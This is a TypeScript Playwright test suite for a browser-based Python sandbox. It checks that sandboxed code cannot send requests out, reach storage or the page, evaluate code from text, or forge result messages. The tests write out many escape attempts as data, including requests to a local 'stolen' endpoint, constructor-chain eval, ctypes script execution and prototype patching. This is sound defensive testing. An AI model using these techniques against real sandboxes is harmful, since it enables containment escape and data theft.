import type { ExecResult } from "../../../src/protocol/index.ts";
import { expect, test } from "./fixtures.ts";

test.describe.configure({ timeout: 300_000 });

/** A program that tries expressions which all must fail; it prints what each met, and OPEN where it met no error. */
function attempts(expressions: Record<string, string>): string {
  const tries = Object.entries(expressions).map(
    ([name, code]) => `attempt(${JSON.stringify(name)}, ${JSON.stringify(code)})`,
  );
  return [
    "import js, pyodide.http, pyodide_js, urllib.request",
    "from pyodide.ffi import to_js",
    "def attempt(name, code):",
    "  try: print(name, 'OPEN', repr(eval(code))[:200])",
    "  except BaseException as error: print(name, 'refused:', type(error).__name__, str(error).strip()[-160:])",
    ...tries,
  ].join("\n");
}

function refusals(result: ExecResult | undefined): string[] {
  expect(result).toMatchObject({ success: true });
  expect(result!.stdout).not.toContain("OPEN");
  return result!.stdout.split("\n").filter((line) => line.includes("refused:"));
}

test("no request leaves by any way", async ({ host, run, page }) => {
  const target = `${host.url}stolen`;
  const asked = () => host.requests.filter((path) => path !== "/favicon.ico");
  const before = asked();
  const socket = target.replace("http", "ws");
  const [result, silent] = await run(
    attempts({
      xhr: `(x := js.XMLHttpRequest.new(), x.open('GET', '${target}', False), x.send(), x.status)`,
      urlopen: `urllib.request.urlopen('${target}').status`,
      open_url: `pyodide.http.open_url('${target}')`,
      importScripts: `js.importScripts('${target}')`,
      Worker: `js.Worker.new('${target}')`,
    }),
    // These say by a promise or an event that they have failed, which a program never sees: the server tells.
    [
      "import js, socket, time, pyodide_js",
      `for start in (lambda: js.fetch('${target}'), lambda: js.WebSocket.new('${socket}'),`,
      `    lambda: js.EventSource.new('${target}'), lambda: pyodide_js.loadPackage('${target}/x-1.0-py3-none-any.whl'),`,
      `    lambda: js.WebTransport.new('https://127.0.0.1:1/stolen'), lambda: socket.create_connection(('127.0.0.1', ${new URL(target).port}), 1).send(b'stolen')):`,
      "  try: start()",
      "  except Exception as error: print(type(error).__name__)",
      "time.sleep(2)",
      "'tried'",
    ].join("\n"),
  );
  expect(refusals(result)).toHaveLength(5);
  expect(silent).toMatchObject({ success: true, value: "'tried'" });
  expect(asked()).toEqual(before);

  // The page may ask, and is counted.
  await page.evaluate((url) => fetch(url), target);
  await expect.poll(() => host.requests.filter((path) => path.includes("stolen"))).toEqual(["/lab/stolen"]);
});

test("no storage, no page, no code from text", async ({ run, sandbox }) => {
  await sandbox.evaluate(() => localStorage.setItem("secret", "of the page"));
  const [result, later, script] = await run(
    attempts({
      indexedDB: "js.indexedDB.open('x')",
      localStorage: "js.localStorage",
      document: "js.document",
      parent: "js.parent",
      eval: "js.eval('1')",
      Function: "js.Function.new('return 1')()",
      "constructor of an array": "to_js([1]).constructor.constructor('return 1')()",
      "constructor of a function": "pyodide_js.loadPackage.constructor('return 1')()",
      Worker: "js.Worker.new('data:text/javascript,1')",
      BroadcastChannel: "js.BroadcastChannel.new('between runs')",
      SharedWorker: "js.SharedWorker.new('data:text/javascript,1')",
      gpu: "js.navigator.gpu",
      caller: "pyodide_js._module.callPyObject.caller",
      arguments: "pyodide_js._module.callPyObject.arguments",
    }),
    "import js\nfrom pyodide.ffi import run_sync\nrun_sync(js.Promise.resolve(1))",
    "import ctypes\nctypes.CDLL(None).emscripten_run_script_int(b'1 + 1')",
  );
  expect(refusals(result)).toHaveLength(14);
  // A program runs inside one call: no promise settles before its worker is gone.
  expect(later).toMatchObject({ success: false, error: { type: "RuntimeError" } });
  expect(script).toMatchObject({ success: false, value: null, killed: "crash" });
});

test("a result cannot be forged", async ({ run, sandbox }) => {
  const heard = sandbox.evaluate(
    () =>
      new Promise((resolve) => {
        addEventListener("message", (event) => resolve(event.data));
        setTimeout(() => resolve("nothing"), 60_000);
      }),
  );
  const forged = "{'type': 'done', 'nonce': '', 'value': 'forged', 'errorType': None, 'errorMessage': '', 'files': {}}";
  const [posted, patched, wrong] = await run(
    [
      "import js",
      "from pyodide.ffi import to_js, create_proxy",
      `message = to_js(${forged}, dict_converter=js.Object.fromEntries)`,
      "js.postMessage(message)",
      "js.self.dispatchEvent(js.MessageEvent.new('message', to_js({'data': message}, dict_converter=js.Object.fromEntries)))",
      "'honest'",
    ].join("\n"),
    [
      "import js",
      "from pyodide.ffi import create_proxy",
      "ports = []",
      "def steal(*args): ports.append(args)",
      "js.MessagePort.prototype.postMessage = create_proxy(steal)",
      "js.performance.now = create_proxy(lambda: -10**9)",
      "'still honest'",
    ].join("\n"),
    "import sys\nsys._getframe(1).f_globals['text_of'] = lambda error: 5\nraise ValueError('x')",
  );
  expect(posted).toMatchObject({ success: true, value: "'honest'" });
  expect(patched).toMatchObject({ success: true, value: "'still honest'" });
  expect(patched!.execution_time).toBeLessThan(60);
  expect(patched!.execution_time).toBeGreaterThan(0);
  expect(wrong!.success).toBe(false);
  expect(await heard).toBe("nothing");
});
